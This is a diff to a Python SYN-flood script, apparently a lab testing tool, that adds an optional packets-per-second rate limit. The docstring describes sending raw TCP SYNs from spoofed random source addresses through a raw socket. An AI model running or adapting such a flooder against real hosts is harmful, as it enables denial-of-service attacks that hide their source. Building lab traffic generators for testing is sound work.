@@ -5,13 +5,14 @@
 Sends raw IPv4/TCP SYNs to DST:PORT from random source addresses of
 SRC_NET (a /24 given as a.b.c, hosts 10..250), random source ports and
 sequence numbers, with an MSS option, through a raw socket (IP_HDRINCL),
-as fast as Python can, until COUNT frames are sent or SECONDS pass,
+as fast as Python can (or at most RATE frames a second when RATE is
+given and not 0), until COUNT frames are sent or SECONDS pass,
 whichever comes first. Only meant to run inside a lab namespace: the
 addresses must be the lab's own. Prints one JSON object: frames sent,
 seconds taken. Exit 0 on a completed run, 1 when the socket cannot be
 opened (needs root), 2 on a bad command line.
 
-Usage: syn_flood.py DST PORT SRC_NET COUNT SECONDS
+Usage: syn_flood.py DST PORT SRC_NET COUNT SECONDS [RATE]
 """
 import json
 import random
@@ -44,7 +45,7 @@ def syn(src, dst, sport, dport, seq):
 
 
 def main(argv):
-    if len(argv) != 6:
+    if len(argv) not in (6, 7):
         print(__doc__.strip().splitlines()[-1], file=sys.stderr)
         return 2
     try:
@@ -53,8 +54,9 @@ def main(argv):
         net = [int(x) for x in argv[3].split(".")]
         count = int(argv[4])
         seconds = float(argv[5])
+        rate = int(argv[6]) if len(argv) == 7 else 0
         if len(net) != 3 or not 0 < dport < 65536 or count < 1 \
-                or not 0 < seconds <= 600:
+                or not 0 < seconds <= 600 or rate < 0:
             raise ValueError
     except (OSError, ValueError):
         print("syn_flood: bad arguments", file=sys.stderr)
@@ -72,8 +74,12 @@ def main(argv):
     deadline = t0 + seconds
     sent = errors = 0
     while sent < count:
-        if (sent & 255) == 0 and time.monotonic() >= deadline:
-            break
+        if (sent & 255) == 0:
+            now = time.monotonic()
+            if now >= deadline:
+                break
+            if rate and sent > rate * (now - t0):
+                time.sleep(min(sent / rate - (now - t0), deadline - now))
         try:
             s.sendto(pool[sent % len(pool)], (argv[1], 0))
         except OSError:
